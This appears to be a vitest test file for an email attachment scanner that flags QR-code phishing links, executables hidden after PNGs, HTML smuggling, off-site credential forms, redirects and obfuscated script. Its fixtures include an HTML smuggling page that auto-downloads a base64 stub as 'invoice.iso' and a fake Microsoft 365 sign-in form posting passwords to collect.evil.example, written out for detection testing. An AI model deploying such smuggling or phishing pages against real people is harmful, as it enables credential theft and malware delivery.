import { describe, expect, it } from 'vitest';
import { analyzeAttachments } from '../../../../src/engine/attachments/analyze-attachments.ts';
import { DEFAULT_LIMITS } from '../../../../src/engine/limits.ts';
import type { FileNode, MessageModel } from '../../../../src/core/message.ts';
import { attachment, modelWith, plainPng, qrPng } from './fixtures/build-files.ts';

async function analyse(name: string, bytes: Uint8Array | string, limits = DEFAULT_LIMITS): Promise<{ node: FileNode; model: MessageModel }> {
  const model = modelWith([attachment(name, bytes)]);
  await analyzeAttachments(model, limits);
  return { node: model.attachments[0]!.explode![0]!, model };
}

describe('QR codes in images', () => {
  it('decodes a QR code in a PNG and feeds its URL to the body links', async () => {
    const { node, model } = await analyse('scan-me.png', await qrPng('https://mfa-reset.evil.example/login?u=bob'));
    expect(node.flags).toEqual(['qr_code', 'qr_code_url']);
    expect(node.scan.qr).toMatchObject({ type: 'url', data: 'https://mfa-reset.evil.example/login?u=bob' });
    expect(model.body.links.map((l) => [l.parser, l.href_url.domain.root_domain])).toEqual([['qr', 'evil.example']]);
  });

  it('reports a QR code that holds text, not a link, without adding a link', async () => {
    const { node, model } = await analyse('ticket.png', await qrPng('SEAT 14C ROW 3'));
    expect(node.flags).toEqual(['qr_code']);
    expect(model.body.links).toEqual([]);
  });

  it('finds nothing in a plain image', async () => {
    const { node } = await analyse('logo.png', plainPng(300, 300));
    expect(node.flags).toEqual([]);
    expect(node.scan.qr).toBeUndefined();
  });

  it('unpacks an executable appended after a PNG as a child, and leaves a clean PNG alone', async () => {
    const png = plainPng(50, 50);
    const model = modelWith([attachment('photo.png', new Uint8Array(Buffer.concat([png, Buffer.from('MZ\x90\x00' + '\x00'.repeat(60), 'latin1')])))]);
    await analyzeAttachments(model, DEFAULT_LIMITS);
    const [root, overlay] = model.attachments[0]!.explode!;
    expect(root!.flags).toEqual(['trailing_data']);
    expect(overlay).toMatchObject({ file_name: 'overlay', depth: 1, flavors: { mime: 'application/x-dosexec', yara: [] } });
    expect((await analyse('photo.png', png)).node.flags).toEqual([]);
  });

  it('refuses to decode an image past maxImagePixels, reading only its header', async () => {
    const { node } = await analyse('huge.png', plainPng(400, 400), { ...DEFAULT_LIMITS, maxImagePixels: 100_000 });
    expect(node.flags).toEqual(['image_too_large']);
  });
});

const SMUGGLER = `<!DOCTYPE html><html><body><script>
  var b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0h';
  var bytes = Uint8Array.from(atob(b64), function (c) { return c.charCodeAt(0); });
  var blob = new Blob([bytes], { type: 'application/octet-stream' });
  if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'invoice.iso'); }
  else { var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click(); }
</script></body></html>`;

const PHISH_FORM = `<html><head><title>Microsoft 365 - Sign in</title></head><body>
<form method="POST" action="https://collect.evil.example/post.php"><input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>`;

const RECEIPT = `<html><head><title>Your receipt</title></head><body><h1>Thanks for your order</h1>
<p>Order 1234 ships tomorrow. <a href="https://shop.example.com/orders/1234">Track it</a>.</p></body></html>`;

describe('HTML and SVG attachments', () => {
  it('flags HTML smuggling (atob + Blob + msSaveOrOpenBlob/download)', async () => {
    const { node } = await analyse('invoice.html', SMUGGLER);
    expect(node.flags).toContain('html_smuggling');
  });

  it('flags a credential form posting off-site and reports the target as a link', async () => {
    const { node, model } = await analyse('secure-message.htm', PHISH_FORM);
    expect(node.flags).toEqual(expect.arrayContaining(['form_offsite', 'credential_form']));
    expect(node.scan.html).toMatchObject({ title: 'Microsoft 365 - Sign in', password_input: true });
    expect(model.body.links.map((l) => l.href_url.url)).toContain('https://collect.evil.example/post.php');
  });

  it('flags a scripted redirect and a data-URI download', async () => {
    expect((await analyse('r.html', '<html><script>window.location.href = "https://evil.example/x";</script></html>')).node.flags).toContain('html_redirect');
    expect((await analyse('d.html', '<html><body><a href="data:application/octet-stream;base64,TVqQ" download="a.exe">x</a></body></html>')).node.flags).toContain('data_uri_download');
  });

  it('unpacks a file offered as a base64 data-URI download and analyses it', async () => {
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(120)]).toString('base64');
    const model = modelWith([attachment('doc.html', `<html><body><a href="data:application/octet-stream;base64,${exe}" download="Invoice.pdf.exe">Download</a></body></html>`)]);
    await analyzeAttachments(model, DEFAULT_LIMITS);
    const [root, child] = model.attachments[0]!.explode!;
    expect(root!.flags).toContain('data_uri_download');
    expect(child).toMatchObject({ file_name: 'Invoice.pdf.exe', depth: 1 });
    expect(child!.flags).toEqual(expect.arrayContaining(['dangerous_type', 'double_extension']));
  });

  it('flags script in an SVG and leaves a plain SVG alone', async () => {
    const evil = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.location="https://evil.example/"</script></svg>';
    expect((await analyse('pic.svg', evil)).node.flags).toContain('svg_script');
    const plain = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>';
    expect((await analyse('pic.svg', plain)).node.flags).toEqual([]);
  });

  it('flags obfuscated script (eval of unescape)', async () => {
    const { node } = await analyse('o.html', '<html><script>eval(unescape("%64%6f%63%75%6d%65%6e%74"))</script></html>');
    expect(node.flags).toContain('obfuscated_script');
  });

  it('does not flag an ordinary HTML receipt, and keeps its text and links', async () => {
    const { node, model } = await analyse('receipt.html', RECEIPT);
    expect(node.flags).toEqual([]);
    expect((node.scan.strings as { strings: string[] }).strings.join(' ')).toContain('Order 1234 ships tomorrow');
    expect(model.body.links.map((l) => [l.parser, l.href_url.url])).toEqual([['attachment', 'https://shop.example.com/orders/1234']]);
  });

  it('keeps the message link count within maxUrls', async () => {
    const many = `<html><body>${Array.from({ length: 50 }, (_, i) => `<a href="https://site${i}.example.com/">${i}</a>`).join('')}</body></html>`;
    const { node, model } = await analyse('links.html', many, { ...DEFAULT_LIMITS, maxUrls: 10 });
    expect(model.body.links).toHaveLength(10);
    expect(node.flags).toContain('url_limit');
  });
});
